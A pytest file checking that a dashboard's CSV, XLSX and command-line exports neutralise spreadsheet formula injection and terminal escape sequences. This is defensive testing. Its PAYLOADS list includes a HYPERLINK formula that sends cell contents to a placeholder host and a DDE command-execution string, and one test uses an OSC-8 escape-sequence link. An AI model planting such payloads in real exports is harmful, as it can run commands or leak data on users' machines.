"""Formula injection (issue 14): form text that a spreadsheet would run as a formula is written as text in every
CSV and XLSX: the app's table downloads (export.table_csv / table_xlsx, which ui.table uses), `jixiao query
--format csv|xlsx`, the 复核清单 workbook and its CSV. Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from formtext import project_form
from typer.testing import CliRunner

from dashboard import cell_safety, export, labels
from dashboard.cli import app
from dashboard.load import ingest
from dashboard.review import export as review_export

PAYLOADS = [
    '=HYPERLINK("http://x"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["群众来电咨询接听率", "100%", "-2.5", "≥95%", "a=b", "说明：=1"]


def sheet_cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row], book


def assert_no_formulas(data: bytes) -> dict[str, openpyxl.cell.cell.Cell]:
    """No formula cell and no hyperlink anywhere in the workbook; the cells by their text."""
    cells, book = sheet_cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert all(not ws._hyperlinks for ws in book.worksheets)
    return {c.value: c for c in cells if isinstance(c.value, str)}


def assert_payloads_are_text(by_text: dict, payloads=PAYLOADS) -> None:
    for p in payloads:
        cell = by_text.get(
            p, by_text.get(p.replace("\r", "_x000D_"))
        )  # OOXML escapes a CR in text as _x000D_
        assert cell is not None, (p, list(by_text))
        assert cell.data_type == "s" and cell.quotePrefix, p  # a string with Excel's apostrophe mark


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_like_text_is_recognised(text):
    assert cell_safety.is_formula_like(text)
    assert cell_safety.csv_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_and_numbers_are_left_alone(text):
    assert not cell_safety.is_formula_like(text)
    assert cell_safety.csv_text(text) == text
    assert cell_safety.csv_text(-2.5) == -2.5


def hostile_frame() -> pd.DataFrame:
    n = len(PAYLOADS)
    return pd.DataFrame(
        {
            "指标": PAYLOADS,
            "说明": ["无偏差"] * n,
            "得分": [-2.5] + [1.0] * (n - 1),
            "混合": [-2.5, "—", *PAYLOADS[: n - 2]],  # an object column as labels.export_frame makes them
        }
    )


def test_table_csv_writes_formula_like_text_with_an_apostrophe():
    rows = list(csv.reader(io.StringIO(export.table_csv(hostile_frame()).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["指标", "说明", "得分", "混合"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert rows[1][2] == "-2.5" and rows[1][3] == "-2.5"  # numbers stay numbers, without an apostrophe
    assert [r[3] for r in rows[3:]] == ["'" + p for p in PAYLOADS[:-2]]


def test_table_xlsx_has_no_formula_cells_and_keeps_numbers():
    data = export.table_xlsx(hostile_frame(), "排名")
    by_text = assert_no_formulas(data)
    assert_payloads_are_text(by_text)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws["C2"].value == -2.5 and ws["C2"].data_type == "n"
    assert ws["D2"].value == -2.5 and ws["D2"].data_type == "n"
    assert ws["B2"].value == "无偏差" and not ws["B2"].quotePrefix


def test_a_page_table_download_is_safe():
    """ui.table's buttons export labels.export_frame through table_csv / table_xlsx."""
    rows = pd.DataFrame({"indicator": PAYLOADS, "points_lost": [-2.5] * len(PAYLOADS), "note": PAYLOADS})
    frame, formats = labels.export_frame(
        rows,
        {"indicator": ("三级指标", "name"), "points_lost": ("扣分", "score"), "note": ("偏差原因", "long")},
    )
    shown = list(frame.iloc[:, 0])  # as the page displays them (export_frame trims surrounding whitespace)
    assert all(cell_safety.is_formula_like(t) for t in shown)
    assert_payloads_are_text(
        assert_no_formulas(export.table_xlsx(frame, "低分预警", number_formats=formats)), shown
    )
    lines = list(csv.reader(io.StringIO(export.table_csv(frame).decode("utf-8-sig"), newline="")))
    assert all(
        line[0].startswith("'") and line[2].startswith("'") and line[1] == "-2.5" for line in lines[1:]
    )


def test_review_workbook_has_no_formula_cells():
    priority = pd.DataFrame(
        [{"rank": 1, "unit": PAYLOADS[0], "year": 2022, "kind": "project", "form": PAYLOADS[1],
          "priority_score": -2.5, "reasons": PAYLOADS[4], "path": "/a/" + PAYLOADS[2], "source_line": 3}]
    )  # fmt: skip
    signals = pd.DataFrame(
        [{"unit": "甲局", "indicator": PAYLOADS[3], "detail": PAYLOADS[5], "note": PAYLOADS[6]}]
    )
    groups = pd.DataFrame([{"group_id": 1, "note": PAYLOADS[6], "indicator": PAYLOADS[3]}])
    rules = pd.DataFrame([{"group_label": "偏差说明", "signal_label": "=1+1", "weight": 2.0, "rule": "-x"}])
    data = review_export.review_xlsx(priority, signals, groups, rules)
    by_text = assert_no_formulas(data)
    assert_payloads_are_text(by_text, PAYLOADS + ["=1+1", "-x"])
    ws = openpyxl.load_workbook(io.BytesIO(data))["复核清单"]
    header = [c.value for c in ws[1]]
    assert ws.cell(2, header.index("复核优先分") + 1).value == -2.5


# -- through the command line, from a form holding the payloads ------------------------------------------------
@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    text = project_form(unit="武威市教育局", project="校园安全经费")
    text = text.replace("接通率不高", PAYLOADS[0]).replace("无偏差", PAYLOADS[1], 1)
    (folder / "hostile.txt").write_text(text, encoding="utf-8")
    db = folder / "hostile.duckdb"
    assert not ingest([folder / "hostile.txt"], db, workers=1).failed
    return db


def query(db: Path, *args: str):
    return CliRunner().invoke(
        app,
        ["query", "drilldown", "--db", str(db), "-p", "units=武威市教育局", *args],
        env={"COLUMNS": "200"},
    )


def test_query_csv_is_safe(hostile_db):
    result = query(hostile_db, "-f", "csv")
    assert result.exit_code == 0, result.output
    notes = [r["note"] for r in csv.DictReader(io.StringIO(result.stdout)) if r["note"]]
    assert "'" + PAYLOADS[0] in notes and "'" + PAYLOADS[1] in notes
    assert not any(n.startswith(("=", "+", "-", "@")) for n in notes)


def test_query_xlsx_is_safe(hostile_db, tmp_path):
    out = tmp_path / "q.xlsx"
    result = query(hostile_db, "-f", "xlsx", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert_payloads_are_text(assert_no_formulas(out.read_bytes()), PAYLOADS[:2])
    assert query(hostile_db, "-f", "xlsx").exit_code == 2  # xlsx needs --out


def test_query_table_and_findings_print_form_text_as_text(tmp_path):
    """Rich markup and terminal escape sequences in form text are not interpreted on the terminal."""
    text = project_form().replace("接通率不高", "[link=http://x]点我[/link]\x1b]8;;http://y\x1b\\链接")
    (tmp_path / "f.txt").write_text(text, encoding="utf-8")
    db = tmp_path / "f.duckdb"
    assert not ingest([tmp_path / "f.txt"], db, workers=1).failed
    shown = query(db, "-f", "table").stdout
    assert "\x1b]8" not in shown
    findings = CliRunner().invoke(app, ["findings", "--db", str(db)], env={"COLUMNS": "300"})
    assert findings.exit_code == 0 and "\x1b]8" not in findings.stdout
